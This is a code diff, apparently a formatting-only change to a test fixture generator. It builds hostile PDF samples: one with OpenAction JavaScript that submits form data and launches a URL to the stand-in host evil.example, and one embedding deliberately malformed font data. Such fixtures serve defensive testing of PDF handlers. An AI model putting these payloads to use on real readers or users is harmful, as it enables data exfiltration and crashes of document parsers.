@@ -49,10 +49,15 @@ export async function javascriptPdf(): Promise<Uint8Array> {
   page.drawText('Tai lieu co JavaScript', { x: 72, y: 760, font: await doc.embedFont(StandardFonts.Helvetica) });
   const ctx = doc.context;
   const action = (js: string) => ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(js) }));
-  doc.catalog.set(PDFName.of('OpenAction'), action("app.alert('mo tai lieu'); this.submitForm('http://evil.example/')"));
+  doc.catalog.set(
+    PDFName.of('OpenAction'),
+    action("app.alert('mo tai lieu'); this.submitForm('http://evil.example/')"),
+  );
   doc.catalog.set(
     PDFName.of('Names'),
-    ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('init'), action('app.launchURL("http://evil.example/")')] }) }),
+    ctx.obj({
+      JavaScript: ctx.obj({ Names: [PDFString.of('init'), action('app.launchURL("http://evil.example/")')] }),
+    }),
   );
   const link = ctx.register(
     ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], A: action('app.beep(0)') }),
@@ -79,7 +84,9 @@ export async function maliciousFontPdf(): Promise<Uint8Array> {
   }
   const cff = Buffer.from([1, 0, 4, 1, 0xff, 0xff, 4, 0xff, 0xff, 0xff, 0xff, ...new Array(500).fill(0xfe)]);
   let seed = 12345;
-  const type1 = Buffer.from(Array.from({ length: 3000 }, () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) & 0xff));
+  const type1 = Buffer.from(
+    Array.from({ length: 3000 }, () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) & 0xff),
+  );
   const fonts: [string, string, string, Buffer][] = [
     ['F1', 'TrueType', 'FontFile2', trueType],
     ['F2', 'Type1', 'FontFile3', cff],
